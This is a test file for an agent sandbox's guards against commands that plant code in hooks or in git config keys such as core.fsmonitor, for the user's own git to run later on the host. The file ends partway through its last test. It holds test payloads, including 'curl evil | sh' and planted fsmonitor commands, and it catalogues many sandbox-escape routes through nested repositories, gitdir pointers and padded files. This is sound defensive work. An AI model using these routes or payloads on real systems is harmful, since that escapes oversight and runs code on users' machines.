// What the user's own git runs later on the host, guarded whatever writes it: a hooks folder in the worktree
// (husky's core.hooksPath) is read-only to commands and refused to the file tools; a nested repository the index
// records (a gitlink) loses a code-running key the run put in its config before the user's `git status` reaches it.
// Real bwrap (and the same commands run unconfined), real git, in-process through runShell.
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { closeShellSessions, runShell, setShellWarningSink } from "../../src/sandbox/run-shell.js";
import { checkoutWalkLimits } from "../../src/sandbox/workspace-checkouts.js";
import { nestedRepoLimits } from "../../src/sandbox/nested-repo-guard.js";
import { CONFIG_LISTING_BYTES } from "../../src/sandbox/plain-git.js";
import { SandboxPathError } from "../../src/sandbox/paths.js";
import { safeWriteFile } from "../../src/sandbox/safe-fs.js";
import { defaultShellSettings } from "../../src/sandbox/shell-settings.js";
import { HAS_BWRAP, type Mode, pathWithout } from "../support/confinement.js";
import { until } from "../support/wait.js";
import { makeRoot, makeThread } from "../tools/helpers.js";

const modes: Mode[] = HAS_BWRAP ? ["bwrap", "fallback"] : ["fallback"];
const savedPath = process.env.PATH;

function setUp(mode: Mode) {
  const root = makeRoot("deerflow-gitcode-");
  const paths = makeThread(root, "A");
  const ws = paths.workspace_path;
  const git = (...args: string[]) => execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", "-c", "commit.gpgsign=false", ...args], { cwd: ws, encoding: "utf8" });
  git("init", "-q");
  mkdirSync(join(ws, ".husky", "_"), { recursive: true });
  writeFileSync(join(ws, ".husky", "pre-commit"), "npm test\n");
  writeFileSync(join(ws, "a.txt"), "a\n");
  git("config", "core.hooksPath", ".husky/_");
  git("add", ".");
  git("commit", "-q", "-m", "init");
  if (mode === "fallback") process.env.PATH = pathWithout(join(root, "nobwrap-bin"), ["bwrap"]);
  const settings = defaultShellSettings({ userHome: join(root, "home"), dataDir: join(root, "data") });
  const sh = async (command: string) => (await runShell(command, { paths, settings, cwd: ws, timeoutSeconds: 60 })).output;
  return { ws, paths, sh, git };
}

afterEach(async () => {
  await closeShellSessions();
  process.env.PATH = savedPath;
});

describe.each(modes)("git code guards (%s)", (mode) => {
  it.runIf(mode === "bwrap")("husky's hooks cannot be written or swapped from the sandbox; the rest of the worktree can", async () => {
    const { ws, sh } = setUp(mode);
    const out = await sh("echo 'curl evil | sh' >> .husky/pre-commit; echo x > .husky/_/pre-commit; mv .husky .h2 && mkdir -p .husky/_ && echo evil > .husky/pre-commit; echo ok > b.txt; cat b.txt");
    expect(out).toContain("ok");
    expect(readFileSync(join(ws, ".husky", "pre-commit"), "utf8")).toBe("npm test\n");
    expect(existsSync(join(ws, ".husky", "_", "pre-commit"))).toBe(false);
    expect(existsSync(join(ws, ".h2"))).toBe(false);
  });

  it("the file tools refuse husky's hooks folder and the folder its wrappers run from", async () => {
    const { ws, paths } = setUp(mode);
    for (const p of [join(ws, ".husky", "pre-commit"), join(ws, ".husky", "_", "post-checkout")]) {
      await expect(safeWriteFile(p, paths, "curl evil | sh\n"), p).rejects.toThrow(SandboxPathError);
    }
    await expect(safeWriteFile(join(ws, ".husky", "pre-commit"), paths, "x")).rejects.toThrow(/hooks folder/);
    expect(readFileSync(join(ws, ".husky", "pre-commit"), "utf8")).toBe("npm test\n");
    await safeWriteFile(join(ws, "b.txt"), paths, "fine\n");
    expect(readFileSync(join(ws, "b.txt"), "utf8")).toBe("fine\n");
  });

  it("a worktree script or python module a code key runs (filter clean = ./tools/clean.sh, textconv = python3 -m nbstripout) cannot be rewritten or planted by a command (the nineteenth pass's GC1)", async () => {
    const { ws, paths, sh, git } = setUp(mode);
    mkdirSync(join(ws, "tools"));
    writeFileSync(join(ws, "tools", "clean.sh"), "#!/bin/sh\ncat\n", { mode: 0o755 });
    git("config", "filter.strip.clean", "./tools/clean.sh");
    git("config", "diff.ipynb.textconv", "python3 -m nbstripout -t");
    // The twentieth pass's GC1b: a file name given to the program, there or not yet, and a sourceless module.
    writeFileSync(join(ws, "clean.py"), "import sys; sys.stdout.write(sys.stdin.read())\n");
    git("config", "filter.py.clean", "python3 clean.py");
    git("config", "diff.sh.textconv", "sh tc.sh");
    writeFileSync(join(ws, ".gitattributes"), "*.txt filter=strip\n");
    await expect(safeWriteFile(join(ws, "tools", "clean.sh"), paths, "#!/bin/sh\ntouch pwned\n")).rejects.toThrow(SandboxPathError);
    await expect(safeWriteFile(join(ws, "nbstripout.py"), paths, "open('pwned','w')\n")).rejects.toThrow(SandboxPathError);
    for (const f of ["clean.py", "tc.sh", "nbstripout.pyc"]) await expect(safeWriteFile(join(ws, f), paths, "x\n"), f).rejects.toThrow(SandboxPathError);
    await sh("printf '#!/bin/sh\\ntouch ../pwned-gc1\\ncat\\n' > tools/clean.sh; echo \"open('../pwned-gc1b','w')\" > nbstripout.py; true");
    // A module planted at the top is moved aside either way; the script is read-only in the sandbox (without one,
    // nothing confines a command's writes: docs/security.md).
    expect(existsSync(join(ws, "nbstripout.py"))).toBe(false);
    await sh("echo 'touch ../pwned-gc1c' > tc.sh; true");
    expect(existsSync(join(ws, "tc.sh"))).toBe(false);
    if (mode === "bwrap") {
      expect(readFileSync(join(ws, "tools", "clean.sh"), "utf8")).toBe("#!/bin/sh\ncat\n");
      git("add", "-A");
      expect(existsSync(join(ws, "..", "pwned-gc1"))).toBe(false);
    }
  });

  it("a hook that is a link into the worktree (pre-commit -> ../../tools/hook.sh): its target cannot be rewritten (the twenty-first pass's A21-2)", async () => {
    const { ws, paths, sh, git } = setUp(mode);
    git("config", "--unset", "core.hooksPath");
    mkdirSync(join(ws, "tools"));
    writeFileSync(join(ws, "tools", "hook.sh"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
    symlinkSync("../../tools/hook.sh", join(ws, ".git", "hooks", "pre-commit"));
    // A dangling one counts too: git runs its target once a command creates it.
    symlinkSync("../../tools/later.sh", join(ws, ".git", "hooks", "pre-push"));
    for (const f of [join(ws, "tools", "hook.sh"), join(ws, "tools", "later.sh"), join(ws, ".git", "hooks", "pre-commit")])
      await expect(safeWriteFile(f, paths, "#!/bin/sh\ntouch ../pwned\n"), f).rejects.toThrow(SandboxPathError);
    await sh("printf '#!/bin/sh\\ntouch ../../pwned-a21\\n' > tools/hook.sh; true");
    if (mode === "bwrap") {
      expect(readFileSync(join(ws, "tools", "hook.sh"), "utf8")).toBe("#!/bin/sh\nexit 0\n");
      git("commit", "-q", "--allow-empty", "-m", "x");
      expect(existsSync(join(ws, "..", "..", "pwned-a21"))).toBe(false);
    }
  });

  it("an include inside an included config is resolved against that file's folder: the file it names is refused and, written by a command, never runs (the eleventh pass's C5)", async () => {
    const { ws, paths, sh, git } = setUp(mode);
    writeFileSync(join(ws, ".gitconfig.local"), "[include]\n\tpath = .gitconfig.more\n");
    git("config", "include.path", "../.gitconfig.local");
    await expect(safeWriteFile(join(ws, ".gitconfig.more"), paths, "[core]\n\tfsmonitor = touch pwned\n")).rejects.toThrow(SandboxPathError);
    await sh("printf '[core]\\n\\tfsmonitor = touch ../pwned-c5\\n' > .gitconfig.more; true");
    git("status", "--porcelain");
    expect(existsSync(join(ws, "..", "pwned-c5"))).toBe(false);
  });

  it("a relative core.hooksPath from the user's global config, a linked worktree's and a repository subfolder's hooks are code too (the twelfth pass's G1, G3)", async () => {
    const { ws, paths, sh, git } = setUp(mode);
    const savedHome = process.env.HOME;
    const home = join(ws, "..", "fake-home");
    mkdirSync(home, { recursive: true });
    writeFileSync(join(home, ".gitconfig"), "[core]\n\thooksPath = .githooks\n");
    git("config", "--unset", "core.hooksPath");
    process.env.HOME = home;
    try {
      // G1: the global setting names <worktree>/.githooks in every repository.
      await expect(safeWriteFile(join(ws, ".githooks", "pre-commit"), paths, "curl evil | sh\n")).rejects.toThrow(SandboxPathError);
      if (mode === "bwrap") {
        await sh("mkdir -p .githooks; echo 'echo ran > ../pwned-g1' > .githooks/pre-commit; chmod +x .githooks/pre-commit; true");
        expect(existsSync(join(ws, ".githooks", "pre-commit"))).toBe(false);
      }
    } finally {
      process.env.HOME = savedHome;
    }
    // G3: a linked worktree (its .git is a file) with husky's hooks folder.
    git("config", "core.hooksPath", ".husky");
    git("worktree", "add", "-q", join(ws, "..", "wt"), "-b", "feat");
    const wt = join(ws, "..", "wt");
    const wtPaths = { ...paths, workspace_path: wt };
    await expect(safeWriteFile(join(wt, ".husky", "pre-commit"), wtPaths, "curl evil | sh\n")).rejects.toThrow(/hooks folder/);
    // ... and a subfolder of a repository whose hooks path points into it.
    mkdirSync(join(ws, "frontend", ".husky"), { recursive: true });
    git("config", "core.hooksPath", "frontend/.husky");
    await expect(safeWriteFile(join(ws, "frontend", ".husky", "pre-commit"), { ...paths, workspace_path: join(ws, "frontend") }, "x")).rejects.toThrow(/hooks folder/);
  });

  it("a code key planted in a nested repository's config, then `git add`ed as a gitlink, is taken out before the user's git status", async () => {
    const { ws, sh, git } = setUp(mode);
    // A spelling the audit cannot read (python writes the file), approved in yolo or by --yes.
    const plant =
      "git init -q sub && git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m s && python3 -c \"open('sub/.git/config','a').write('[core]\\n\\tfsmonitor = touch ../pwned\\n')\" && git add sub";
    const out = await sh(plant);
    expect(out).toContain("deerflow removed core.fsmonitor from");
    expect(readFileSync(join(ws, "sub", ".git", "config"), "utf8")).not.toContain("fsmonitor");
    git("status", "--porcelain");
    expect(existsSync(join(ws, "pwned"))).toBe(false);
    // A key the user had before the run stays theirs.
    const again = await sh("git -C sub config core.pager cat && echo set");
    expect(again).toContain("deerflow removed core.pager");
  });

  it("a code key the user had in a nested repository, given a new value by the run, gets the user's value back (the seventeenth pass's G12)", async () => {
    const { ws, sh, git } = setUp(mode);
    git("init", "-q", "sub");
    git("-C", "sub", "commit", "-q", "--allow-empty", "-m", "s");
    git("-C", "sub", "config", "core.fsmonitor", "true");
    git("add", "sub");
    git("commit", "-q", "-m", "sub");
    const out = await sh(`git -C sub config core.fsmonitor "touch '${ws}/pwned-g12'; false" && echo changed`);
    expect(out).toContain("changed");
    expect(out).toMatch(/deerflow put back core\.fsmonitor in \S*sub\/\.git\/config/);
    expect(git("-C", "sub", "config", "--get-all", "core.fsmonitor").trim()).toBe("true");
    git("status", "--porcelain");
    expect(existsSync(join(ws, "pwned-g12"))).toBe(false);
  });

  it("a hook written into the folder a nested repository's core.hooksPath names in its worktree is moved aside; the user's hook stays (the seventeenth pass's G11)", async () => {
    const { ws, sh, git } = setUp(mode);
    git("init", "-q", "sub");
    writeFileSync(join(ws, "sub", "README"), "r\n");
    git("-C", "sub", "add", "README");
    git("-C", "sub", "commit", "-q", "-m", "s");
    git("-C", "sub", "config", "core.hooksPath", ".githooks");
    mkdirSync(join(ws, "sub", ".githooks"));
    writeFileSync(join(ws, "sub", ".githooks", "pre-commit"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
    git("add", "sub");
    git("commit", "-q", "-m", "sub");
    // A script the audit cannot read writes the hook; the user's next git status refreshes the index and runs it.
    const out = await sh(
      `python3 -c "import os; p='sub/.githooks/post-index-change'; open(p,'w').write('#!/bin/sh\\ntouch ${ws}/pwned-g11\\n'); os.chmod(p, 0o755)" && touch sub/README && echo planted`,
    );
    expect(out).toContain("planted");
    expect(out).toMatch(/deerflow moved \S*sub\/\.githooks\/post-index-change to /);
    expect(existsSync(join(ws, "sub", ".githooks", "pre-commit"))).toBe(true);
    git("status", "--porcelain");
    git("-C", "sub", "status", "--porcelain");
    expect(existsSync(join(ws, "pwned-g11"))).toBe(false);
  });

  it("a hook planted where the user's global core.hooksPath (relative) points is moved aside, in a nested repository and in one the run makes (the twenty-eighth pass's A28-14)", async () => {
    const { ws, sh, git } = setUp(mode);
    const global = join(ws, "..", "global.gitconfig");
    writeFileSync(global, "[core]\n\thooksPath = .githooks\n");
    process.env.GIT_CONFIG_GLOBAL = global;
    try {
      git("init", "-q", "sub");
      git("-C", "sub", "commit", "-q", "--allow-empty", "-m", "s");
      const plant = (d: string) =>
        `python3 -c "import os; os.makedirs('${d}/.githooks', exist_ok=True); p='${d}/.githooks/pre-commit'; open(p,'w').write('#!/bin/sh\\ntouch ${ws}/pwned-${d}\\n'); os.chmod(p, 0o755)"`;
      const out = await sh(`${plant("sub")} && git init -q made && ${plant("made")} && echo planted`);
      expect(out).toContain("planted");
      for (const d of ["sub", "made"]) {
        expect(out).toMatch(new RegExp(`deerflow moved \\S*${d}/\\.githooks/pre-commit to `));
        git("-C", d, "commit", "-q", "--allow-empty", "-m", "user");
        expect(existsSync(join(ws, `pwned-${d}`))).toBe(false);
      }
    } finally {
      delete process.env.GIT_CONFIG_GLOBAL;
    }
  });

  it("a repository a command makes in the thread's outputs/ or uploads/ loses a planted core.fsmonitor (the twenty-ninth pass's A29b-4)", async () => {
    const { paths, sh } = setUp(mode);
    const plant = (d: string) => `git init -q ${d} && printf '[core]\\n\\tfsmonitor = "touch ${d}-pwned; false"\\n' >> ${d}/.git/config && echo hi > ${d}/README`;
    const out = await sh(`${plant("/mnt/user-data/outputs/app")} && ${plant("/mnt/user-data/uploads/app")} && echo made`);
    expect(out).toContain("made");
    for (const host of [join(paths.outputs_path, "app"), join(paths.uploads_path, "app")]) {
      expect(readFileSync(join(host, ".git", "config"), "utf8")).not.toContain("fsmonitor");
      execFileSync("git", ["status", "--porcelain"], { cwd: host });
    }
    expect(out.match(/deerflow removed core\.fsmonitor/g)).toHaveLength(2);
  });

  it("a cookie jar, proxy or CA a command sets in a nested repository's config is taken out (the thirtieth pass's A30b-1)", async () => {
    const { ws, sh } = setUp(mode);
    const out = await sh(
      'git init -q vendor/lib && git -C vendor/lib config http.cookieFile "$HOME/.bashrc" && git -C vendor/lib config http.saveCookies true && git -C vendor/lib config http.proxy http://127.0.0.1:9 && echo made',
    );
    expect(out).toContain("made");
    const left = readFileSync(join(ws, "vendor", "lib", ".git", "config"), "utf8");
    expect(left).not.toMatch(/cookieFile|saveCookies|proxy/i);
    expect(out).toMatch(/deerflow removed .*http\.cookiefile/);
  });

  it("a worktree file a nested repository's config includes is its config too: a code key a command writes there is taken out (G11's family)", async () => {
    const { ws, sh, git } = setUp(mode);
    git("init", "-q", "sub");
    git("-C", "sub", "commit", "-q", "--allow-empty", "-m", "s");
    writeFileSync(join(ws, "sub", "team.gitconfig"), "[user]\n\tname = team\n");
    git("-C", "sub", "config", "include.path", "../team.gitconfig");
    git("add", "sub");
    git("commit", "-q", "-m", "sub");
    const out = await sh(`python3 -c "open('sub/team.gitconfig','a').write('[core]\\n\\tfsmonitor = touch ${ws}/pwned-inc; false\\n')" && echo planted`);
    expect(out).toMatch(/deerflow removed core\.fsmonitor from \S*sub\/team\.gitconfig/);
    expect(readFileSync(join(ws, "sub", "team.gitconfig"), "utf8")).toContain("name = team");
    git("status", "--porcelain");
    git("-C", "sub", "status", "--porcelain");
    expect(existsSync(join(ws, "pwned-inc"))).toBe(false);
  });

  it("a config.lock the run left beside a planted nested config does not stop the repair: the key is taken out of a private copy that replaces the file (the seventeenth pass's G14)", async () => {
    const { ws, sh, git } = setUp(mode);
    const out = await sh(
      `git init -q sub && git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m s && git -C sub config core.fsmonitor "touch '${ws}/pwned-g14'; false" && touch sub/.git/config.lock && git add sub`,
    );
    expect(out).toMatch(/deerflow removed core\.fsmonitor from \S*sub\/\.git\/config/);
    expect(readFileSync(join(ws, "sub", ".git", "config"), "utf8")).not.toContain("fsmonitor");
    git("status", "--porcelain");
    expect(existsSync(join(ws, "pwned-g14"))).toBe(false);
  });

  it("gpg.ssh.defaultKeyCommand, imap.tunnel and any key ending in `command` planted in a gitlink's config are taken out (the tenth pass)", async () => {
    const { ws, sh } = setUp(mode);
    const cfg =
      '[commit]\\n\\tgpgsign = true\\n[gpg]\\n\\tformat = ssh\\n[gpg \\"ssh\\"]\\n\\tdefaultKeyCommand = touch ../pwned-gpgk\\n[imap]\\n\\ttunnel = touch ../pwned-imap\\n[x]\\n\\tsomeCommand = touch ../pwned-x\\n';
    const out = await sh(`git init -q sub && git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m s && printf '${cfg}' >> sub/.git/config && git add sub; echo done`);
    expect(out).toMatch(/deerflow removed .*gpg\.ssh\.defaultkeycommand/);
    const left = readFileSync(join(ws, "sub", ".git", "config"), "utf8");
    expect(left).not.toMatch(/defaultKeyCommand|tunnel|someCommand/);
    expect(left).toContain("gpgsign"); // not code: stays
    // The user's signed commit there finds no key command to run (it fails for want of a key instead).
    const commit = () => execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "z"], { cwd: join(ws, "sub"), stdio: "pipe" });
    expect(commit).toThrow();
    expect(existsSync(join(ws, "pwned-gpgk"))).toBe(false);
  });

  it("deerflow's own git, listing the index after a command, never reads the repository's config (a planted fsmonitor)", async () => {
    const { ws, sh } = setUp(mode);
    await sh("true");
    // However it got there (the seventh pass pointed commondir at it and took write permission from .git), a
    // config that runs code is where git would look: the guard's next listing of the index must not run it.
    const marker = join(ws, "..", "deerflow-ran-it");
    writeFileSync(join(ws, ".git", "config"), `${readFileSync(join(ws, ".git", "config"), "utf8")}[core]\n\tfsmonitor = touch ${marker}\n`);
    const later = new Date(Date.now() + 5_000);
    utimesSync(join(ws, ".git", "index"), later, later);
    await sh("true");
    expect(existsSync(marker)).toBe(false);
  });

  it("a submodule's .git file pointed at a planted git dir loses the planted code key before the user's git status", async () => {
    const { ws, sh, git } = setUp(mode);
    const sub = join(ws, "..", "subsrc");
    execFileSync("git", ["init", "-q", sub]);
    execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "s"], { cwd: sub });
    git("-c", "protocol.file.allow=always", "submodule", "add", "-q", sub, "mod");
    git("commit", "-q", "-m", "mod");
    const out = await sh(
      "mkdir -p evil && git init -q evil/gd && printf '[core]\\n\\tfsmonitor = touch ../../pwned-mod\\n' >> evil/gd/.git/config && printf 'gitdir: ../evil/gd/.git\\n' > mod/.git; echo done",
    );
    expect(out).toContain("deerflow removed core.fsmonitor");
    git("status", "--porcelain");
    expect(existsSync(join(ws, "pwned-mod"))).toBe(false);
  });

  it("a gitlink whose .git is a symlink to a planted gitfile, or whose config is a link, is followed and cleaned (the eighth pass)", async () => {
    const { ws, sh, git } = setUp(mode);
    const out = await sh(
      "git init -q sub && git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m s && git add sub && mkdir -p p && git init -q p/gd && printf '[core]\\n\\tfsmonitor = touch ../../pwned-link\\n' >> p/gd/.git/config && printf 'gitdir: ../p/gd/.git\\n' > p/gitfile && rm -rf sub/.git && ln -s ../p/gitfile sub/.git; echo done",
    );
    expect(out).toContain("deerflow removed core.fsmonitor");
    git("status", "--porcelain");
    expect(existsSync(join(ws, "pwned-link"))).toBe(false);
  });

  it("in a monorepo package, a submodule under the workspace pointed at a planted git dir is cleaned; a key re-planted between commands is taken out at once", async () => {
    const { ws, git } = setUp(mode);
    const sub = join(ws, "..", "subsrc2");
    execFileSync("git", ["init", "-q", sub]);
    execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "s"], { cwd: sub });
    mkdirSync(join(ws, "pkg"));
    writeFileSync(join(ws, "pkg", "a.txt"), "a\n");
    git("-c", "protocol.file.allow=always", "submodule", "add", "-q", sub, "pkg/mod");
    git("add", ".");
    git("commit", "-q", "-m", "pkg");
    const pkg = join(ws, "pkg");
    const root = join(ws, "..", "..");
    const paths = { workspace_path: pkg, uploads_path: join(root, "up3"), outputs_path: join(root, "out3") };
    mkdirSync(paths.uploads_path, { recursive: true });
    mkdirSync(paths.outputs_path, { recursive: true });
    const settings = defaultShellSettings({ userHome: join(root, "home"), dataDir: join(root, "data") });
    const sh = async (command: string) => (await runShell(command, { paths, settings, cwd: pkg, timeoutSeconds: 60 })).output;
    const out = await sh("git init -q gd && printf '[core]\\n\\tfsmonitor = touch ../../pwned-pkg\\n' >> gd/.git/config && printf 'gitdir: ../gd/.git\\n' > mod/.git; echo done");
    expect(out).toContain("deerflow removed core.fsmonitor");
    git("status", "--porcelain");
    expect(existsSync(join(ws, "pwned-pkg"))).toBe(false);
    // Re-planted from outside any command (as a background job would): taken out without waiting for one.
    const config = join(pkg, "gd", ".git", "config");
    writeFileSync(config, `${readFileSync(config, "utf8")}[core]\n\tfsmonitor = touch ../../pwned-pkg\n`);
    await until(() => !readFileSync(config, "utf8").includes("fsmonitor"), "the watcher to take the key out", 30_000);
    // A job re-planting it in a tight loop (the ninth pass froze deerflow so): commands still run, and once the
    // loop stops the key is gone.
    let planting = true;
    const storm = (async () => {
      while (planting) {
        if (!readFileSync(config, "utf8").includes("fsmonitor")) writeFileSync(config, `${readFileSync(config, "utf8")}[core]\n\tfsmonitor = touch ../../pwned-pkg\n`);
        await new Promise((r) => setImmediate(r));
      }
    })();
    for (let i = 0; i < 3; i++) expect(await sh(`echo alive-${i}`)).toContain(`alive-${i}`);
    planting = false;
    await storm;
    await until(() => !readFileSync(config, "utf8").includes("fsmonitor"), "the last planted key to be taken out", 30_000);
  });

  it("in a sha256 repository a planted gitlink config is seen and cleaned too (the ninth pass)", async () => {
    const { ws, sh, git } = setUp(mode);
    rmSync(join(ws, ".git"), { recursive: true, force: true });
    git("init", "-q", "--object-format=sha256");
    git("add", "a.txt");
    git("commit", "-q", "-m", "init");
    const out = await sh(
      "git init -q --object-format=sha256 sub && git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m s && printf '[core]\\n\\tfsmonitor = touch ../pwned256\\n' >> sub/.git/config && git add sub; echo done",
    );
    expect(out).toContain("deerflow removed core.fsmonitor");
    git("status", "--porcelain");
    expect(existsSync(join(ws, "pwned256"))).toBe(false);
  });

  it("a gitlink chain ten deep loses its planted key; a gitlink pointing back at its parent's git dir ends the walk (the tenth pass)", async () => {
    const { ws, sh, git } = setUp(mode);
    const chain = [
      "set -e",
      'mk() { git init -q "$1" && git -C "$1" -c user.name=t -c user.email=t@t commit -q --allow-empty -m x; }',
      "p=v/a; mk $p",
      "for i in 1 2 3 4 5 6 7 8 9; do p=$p/n$i; mk $p; done",
      "printf '[core]\\n\\tfsmonitor = touch \"$PWD/pwned-depth10\"\\n' >> $p/.git/config",
      'while [ "$p" != v/a ]; do c=${p##*/}; p=${p%/*}; git -C $p add $c && git -C $p -c user.name=t -c user.email=t@t commit -qm $c; done',
      "git add v/a; echo ok",
    ].join("\n");
    const out = await sh(chain);
    expect(out).toMatch(/deerflow removed core\.fsmonitor from .*n9\/\.git\/config/);
    git("status", "--porcelain");
    expect(existsSync(join(ws, "pwned-depth10"))).toBe(false);
    // Past the walk's budget it says so (fails closed in words), rather than stopping in silence.
    nestedRepoLimits.indexes = 3;
    try {
      expect(await sh("touch .git/index && echo relisted")).toMatch(
        /deerflow stopped looking into nested repositories at .*v\/a\/n1\/n2: more than 3 of them\. Code keys in the ones below it were not checked/,
      );
    } finally {
      nestedRepoLimits.indexes = 256;
    }
    // A cycle: a recorded gitlink whose .git file names the workspace's own git dir.
    const loop = await sh("mkdir -p loop && printf 'gitdir: ../.git\\n' > loop/.git && git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),loop && echo looped");
    expect(loop).toContain("looped");
  });

  it("both walks' budgets spent: the repositories the run made past them lose their .git, and the user (not only the model) hears the check stopped (the seventeenth pass's G13)", async () => {
    const { ws, sh, git } = setUp(mode);
    const notices: string[] = [];
    setShellWarningSink((m) => notices.push(m));
    nestedRepoLimits.indexes = 3;
    checkoutWalkLimits.entries = 5;
    try {
      const plant = [
        "set -e",
        'mk() { git init -q "$1" && git -C "$1" -c user.name=t -c user.email=t@t commit -q --allow-empty -m x; }',
        "for i in 0 1 2 3 4; do mk vendor/m$i; done",
        "mk vendor/m4/inner",
        `printf '[core]\\n\\tfsmonitor = touch ${ws}/pwned-g13; false\\n' >> vendor/m4/inner/.git/config`,
        "git -C vendor/m4 add inner && git -C vendor/m4 -c user.name=t -c user.email=t@t commit -qm in",
        "git add vendor 2>/dev/null; echo ok",
      ].join("\n");
      const out = await sh(plant);
      expect(out).toContain("ok");
      expect(out).toMatch(/deerflow moved \S*vendor\/m4\/\.git to \S*\.git\.deerflow-removed/);
      for (const m of ["m2", "m3", "m4"]) expect(existsSync(join(ws, "vendor", m, ".git")), m).toBe(false);
      expect(existsSync(join(ws, "vendor", "m0", ".git"))).toBe(true);
      const said = notices.join("\n");
      expect(said).toMatch(/deerflow stopped checking nested repositories in \S+ after 3 of them\. 3 repositories the run made past that point had their \.git moved to \.git\.deerflow-removed/);
      expect(said).toMatch(/deerflow stopped looking for repositories made inside \S+ after 5 entries/);
      git("status", "--porcelain");
      expect(existsSync(join(ws, "pwned-g13"))).toBe(false);
    } finally {
      nestedRepoLimits.indexes = 256;
      checkoutWalkLimits.entries = 200_000;
      setShellWarningSink((m) => process.stderr.write(`warning: ${m}\n`));
    }
  });

  it("a gitlink whose .git file or commondir points outside the workspace: the config there is never edited, and a pointer the run made is moved aside (the tenth pass's B6, the eleventh's C6)", async () => {
    const { ws, sh } = setUp(mode);
    const home = join(ws, "..", "..", "..", "outside-home");
    const global = join(home, ".config", "git");
    mkdirSync(global, { recursive: true });
    const globalConfig = "[alias]\n\tlg = log --graph\n[credential]\n\thelper = store\n[core]\n\tpager = less -R\n";
    writeFileSync(join(global, "config"), globalConfig);
    const other = join(home, "other");
    mkdirSync(other, { recursive: true });
    execFileSync("git", ["init", "-q", other]);
    execFileSync("git", ["-C", other, "config", "core.hooksPath", ".husky"]);
    const otherConfig = readFileSync(join(other, ".git", "config"), "utf8");
    const out = await sh(
      [
        "Z=0000000000000000000000000000000000000001",
        `git update-index --add --cacheinfo 160000,$Z,vendor/x && mkdir -p vendor/x && printf 'gitdir: %s\\n' '${global}' > vendor/x/.git`,
        `git init -q vendor/y && printf '%s\\n' '${join(other, ".git")}' > vendor/y/.git/commondir && git update-index --add --cacheinfo 160000,$Z,vendor/y`,
        "echo planted",
      ].join("\n"),
    );
    expect(out).toContain("planted");
    // Pointers the run made are moved aside (git status no longer enters those checkouts); the configs are untouched.
    expect(out).toMatch(/deerflow moved \S*vendor\/x\/\.git to \S*vendor\/x\/\.git\.deerflow-removed: it pointed git at \S*\.config\/git\/config/);
    expect(out).toMatch(/deerflow moved \S*vendor\/y\/\.git\/commondir to /);
    expect(out).not.toMatch(/deerflow removed .*outside-home/);
    expect(readFileSync(join(global, "config"), "utf8")).toBe(globalConfig);
    expect(readFileSync(join(other, ".git", "config"), "utf8")).toBe(otherConfig);
  });

  it("a .git file padded past 64 KiB or past git's 1 MiB, a gitdir line ending in a space, a config that lists past the buffer: none hides a planted key (the sixteenth pass's G7, G8, G9)", async () => {
    const { ws, sh, git } = setUp(mode);
    // The user's own checkout behind a .git file deerflow cannot read (past 1 MiB): named, never moved.
    mkdirSync(join(ws, "mine"));
    writeFileSync(join(ws, "mine", ".git"), `gitdir: ../elsewhere\n${"\n".repeat(2_000_000)}`);
    const commit = (d: string) => `git init -q ${d} && git -C ${d} -c user.name=t -c user.email=t@t commit -q --allow-empty -m x`;
    // A git dir moved out of its checkout, pointed at by the checkout's .git file (as git writes one, then spoiled).
    const detached = (sub: string, dir: string, gitfile: string) =>
      [
        commit(`s-${sub}`),
        `mv s-${sub}/.git '${dir}' && rmdir s-${sub} && mkdir ${sub} && ${gitfile} > ${sub}/.git`,
        `git --git-dir='${dir}' config core.fsmonitor "touch '$PWD/pwned-${sub}'; false" && git --git-dir='${dir}' config core.worktree ../${sub} && git add ${sub}`,
      ].join(" && ");
    const out = await sh(
      [
        "set -e",
        // G7: git trims the trailing newlines and follows the file (its limit is 1 MiB)
        detached("padded", "vendor-cache", "{ printf 'gitdir: ../vendor-cache\\n'; head -c 100000 /dev/zero | tr '\\0' '\\n'; }"),
        // G9: git keeps the trailing space: `vendor-cache2 ` is another folder
        detached("spaced", "vendor-cache2 ", "printf 'gitdir: ../vendor-cache2 \\n'"),
        // G10 (the seventeenth pass): git reads the path up to the NUL with its line end kept (`vc<LF>`); a NUL is unreadable
        detached("nul", "vc\n", "printf 'gitdir: ../vc\\n\\0x'"),
        // Past git's limit: unverified, moved aside
        detached("huge", "vendor-cache3", "{ printf 'gitdir: ../vendor-cache3\\n'; head -c 2000000 /dev/zero | tr '\\0' '\\n'; }"),
        // A commondir padded the same way: git follows it to the config it names
        commit("shared"),
        "cp -r shared/.git common-cache && { printf '../../common-cache\\n'; head -c 100000 /dev/zero | tr '\\0' '\\n'; } > shared/.git/commondir",
        `git --git-dir=common-cache config core.fsmonitor "touch '$PWD/pwned-shared'; false" && git add shared`,
        // G8: each `b` is 2 bytes on disk and 2 006 in `git config --list`: past the listing's buffer by a quarter
        commit("amp"),
        `python3 -c "import sys; sys.stdout.write('[a \\"' + 'x' * 2000 + '\\"]\\n' + 'b\\n' * ${Math.ceil((CONFIG_LISTING_BYTES * 1.25) / 2_000)} + '[core]\\n\\tfsmonitor = touch $PWD/pwned-amp\\n')" >> amp/.git/config`,
        "git add amp",
        "echo planted",
      ].join("\n"),
    );
    expect(out).toContain("planted");
    // (core.worktree names the checkout whose .git names the git dir back, as git writes it: not code, kept: A41c-4)
    expect(out).toMatch(/deerflow removed core\.fsmonitor from \S*vendor-cache\/config/);
    expect(out).toMatch(/deerflow removed core\.fsmonitor from \S*vendor-cache2 \/config/);
    expect(out).toMatch(/deerflow removed core\.fsmonitor from \S*common-cache\/config/);
    expect(out).toMatch(/deerflow could not read \S*mine\/\.git as git does \(it is larger than 1048576 bytes/);
